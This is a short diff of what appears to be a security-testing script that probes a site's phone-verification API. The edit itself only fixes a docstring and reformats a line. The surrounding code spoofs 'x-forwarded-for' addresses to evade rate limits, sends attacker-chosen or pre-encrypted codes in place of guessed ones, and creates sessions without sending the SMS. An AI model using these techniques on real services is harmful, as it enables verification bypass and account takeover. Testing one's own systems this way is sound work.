@@ -71,7 +71,7 @@ def right_code_raced(target: Target, rounds: int) -> Outcome:
 
 
 def codes_brought_along(target: Target, rounds: int) -> Outcome:
-    """A code that is set instead of guessed: in the open, or as one was once encrypted for the attacker's phone."""
+    """A code that is set instead of guessed: in the open, or as it was once encrypted for the attacker's phone."""
     times = through = 0
     encrypted = encode_code("4711", code_key(target.secret["x-api-key"]))
     _, iv, ciphertext, _ = encrypted.split(":")
@@ -79,7 +79,8 @@ def codes_brought_along(target: Target, rounds: int) -> Outcome:
     refusals = set[str]()
     for version, code in product(("v1", "v2"), seen * rounds):
         victim = new_phone()
-        api, headers = f"{target.site.web}/api/{version}/message", {**target.public, "x-forwarded-for": new_address()}
+        api = f"{target.site.web}/api/{version}/message"
+        headers = {**target.public, "x-forwarded-for": new_address()}
         whole = {"phone": victim[1:], "send": "0", "code": code}
         refusals.add(httpx.get(f"{api}/create", params=whole, headers=headers).text)
         session_id = target.create(victim, send=False)["session_id"]
